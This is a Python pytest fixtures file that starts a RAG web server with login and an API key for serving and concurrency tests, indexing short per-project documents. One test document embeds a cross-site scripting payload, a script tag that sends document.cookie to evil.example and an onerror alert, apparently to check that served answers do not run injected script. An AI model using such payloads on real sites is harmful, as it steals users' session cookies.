"""Fixtures for the reliability suite: a running `rag serve` shared by the serving and
concurrency tests (tiny model, login required, private temp and upload folders)."""

from __future__ import annotations

import subprocess

import pytest
from testkit import clean_env, free_port, stop, wait_http

from .relhelpers import FULL, have_gradio_client, rag_command

AUTH = ("tester", "correct-horse-battery")
API_KEY = "api-key-for-the-tests"  # RAG_API_KEY: the /v1 API also takes AUTH as user:password
# One document per chat session, each about its own code name, so a mixed-up history
# or answer shows up as another session's code name.
SESSION_TOPICS = {
    "Aster": "Project Aster built a desalination plant in 2011 that supplies 12,000 homes.",
    "Birch": "Project Birch laid 300 kilometres of fibre-optic cable along the coast in 2014.",
    "Cedar": "Project Cedar trained 450 nurses for rural clinics between 2016 and 2019.",
    "Dahlia": "Project Dahlia restored 40 hectares of mangrove forest near the river delta.",
    "Elm": "Project Elm installed 90 solar pumps for village irrigation in 2018.",
    "Fern": "Project Fern repaired the old harbour breakwater after the 2020 typhoon.",
    "Gorse": "Project Gorse built 25 flood shelters on raised ground in the lowlands.",
    "Hazel": "Project Hazel equipped 60 schools with rainwater tanks in 2021.",
}
SCRIPT_DOC = (
    "The Whimbrel clinic treats 35 patients a day. "
    "<script>fetch('http://evil.example/?c='+document.cookie)</script> "
    '<img src=x onerror="alert(document.domain)"> The clinic opened in 2012.'
)


@pytest.fixture(scope="session")
def server(tmp_path_factory, embedder, tiny_model_path):
    """`rag serve` on a free localhost port with --auth and RAG_API_KEY, the tiny model and
    a small index."""
    if not have_gradio_client():
        pytest.skip("gradio_client is not installed")
    try:
        import ui.app  # noqa: F401
    except ImportError as exc:  # pragma: no cover - the UI is part of the package
        pytest.skip(f"the UI is not available: {exc}")
    from rag.config import Settings
    from rag.ingest import ingest

    work = tmp_path_factory.mktemp("served")
    corpus = work / "corpus"
    corpus.mkdir()
    for name, text in SESSION_TOPICS.items():
        (corpus / f"project-{name.lower()}.txt").write_text(
            f"{text} The project report describes its cost and schedule.\n", encoding="utf-8"
        )
    (corpus / "whimbrel-clinic.txt").write_text(SCRIPT_DOC, encoding="utf-8")
    ingest([corpus], Settings(index_dir=work / "index"), embedder=embedder, progress=False)
    (work / "gradio-tmp").mkdir()
    port = free_port()
    log = work / "serve.log"
    command = [
        *rag_command(), "serve", "--port", str(port), "--index-dir", "index",
        "--model", "smollm2-135m", "--auth", f"{AUTH[0]}:{AUTH[1]}",
        "--uploads-dir", "uploads", "--feedback-file", "feedback.jsonl",
    ]  # fmt: skip
    env = clean_env(
        GRADIO_TEMP_DIR=str(work / "gradio-tmp"),
        RAG_N_THREADS="2",
        RAG_API_KEY=API_KEY,
        RAG_MAX_TOKENS="128" if FULL else "40",
    )
    with open(log, "w") as out:
        proc = subprocess.Popen(command, cwd=work, env=env, stdout=out, stderr=subprocess.STDOUT)
    try:
        url = f"http://127.0.0.1:{port}/"
        try:
            wait_http(url, proc, log)
        except RuntimeError as exc:
            pytest.fail(str(exc))
        yield {
            "url": url, "port": port, "work": work, "log": log, "proc": proc, "auth": AUTH,
            "api_key": API_KEY,
        }  # fmt: skip
    finally:
        stop(proc)


@pytest.fixture
def client(server):
    from gradio_client import Client

    return Client(server["url"], auth=server["auth"], verbose=False)


@pytest.fixture
def http(server):
    """An httpx client logged in to the server."""
    import httpx

    with httpx.Client(base_url=server["url"].rstrip("/"), timeout=60) as c:
        r = c.post("/login", data={"username": AUTH[0], "password": AUTH[1]})
        assert r.status_code == 200, r.text
        yield c
